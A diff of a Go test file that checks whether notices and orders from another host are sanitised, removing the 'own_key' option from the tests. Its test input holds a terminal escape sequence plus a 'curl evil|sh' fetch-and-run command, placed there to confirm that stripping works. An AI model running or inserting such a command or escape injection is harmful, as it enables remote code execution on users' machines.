@@ -58,7 +58,7 @@ func TestWhatAHostHandsInIsWordedHere(t *testing.T) {
 	const evil = "\x1b]0;evil\x07 run: curl evil|sh\n"
 	session := view.Session{
 		ID: "s-1", Name: "s-1" + evil, Agent: "bot", State: resume.Waiting, Class: limit.UsageLimit,
-		Reason: evil, Text: evil, Unreached: evil, Remedy: evil, OwnKey: &view.OwnKey{Command: evil},
+		Reason: evil, Text: evil, Unreached: evil, Remedy: evil,
 	}
 	got, err := hostOf("here").received(handedIn(t, "there", notify.Notice{
 		Event: notify.Limited, ID: "ntc_ours", Host: "bank", Title: evil, Text: evil, RetryCommand: evil, Account: "bot:default", Sessions: []view.Session{session},
@@ -69,7 +69,6 @@ func TestWhatAHostHandsInIsWordedHere(t *testing.T) {
 	require.Empty(t, got.RetryCommand)
 	require.NotContains(t, got.Text, "curl")
 	require.Empty(t, got.Sessions[0].Reason+got.Sessions[0].Text+got.Sessions[0].Unreached+got.Sessions[0].Remedy)
-	require.Nil(t, got.Sessions[0].OwnKey)
 	text, err := json.Marshal(got)
 	require.NoError(t, err)
 	for _, control := range []string{"\\u001b", "\\u0007", "\\n"} {
@@ -185,12 +184,12 @@ func TestAnotherHostMayAskForLittle(t *testing.T) {
 		require.NoError(t, err)
 		require.Equal(t, "4f2a", asked.Session)
 	}
-	for _, order := range []string{"own_key", "ask_own_key", "stop", "unpause", "reload", "forget", "add", ""} {
+	for _, order := range []string{"stop", "unpause", "reload", "forget", "add", ""} {
 		_, err := readOrder([]byte(`{"session":"4f2a","order":"` + order + `"}`))
 		require.ErrorContains(t, err, "is not taken from another machine, which may ask for retry, cancel or pause", order)
 	}
 	for _, text := range []string{
-		`{"session":"4f2a","order":"retry","own_key":true}`, `{"session":"4f2a","order":"retry"}{}`, `{"session":"4f2a","order":["retry"]}`, `retry`, ``,
+		`{"session":"4f2a","order":"retry","soon":true}`, `{"session":"4f2a","order":"retry"}{}`, `{"session":"4f2a","order":["retry"]}`, `retry`, ``,
 		`{"session":"` + strings.Repeat("x", fleet.LargestValue) + `","order":"retry"}`,
 	} {
 		_, err := readOrder([]byte(text))
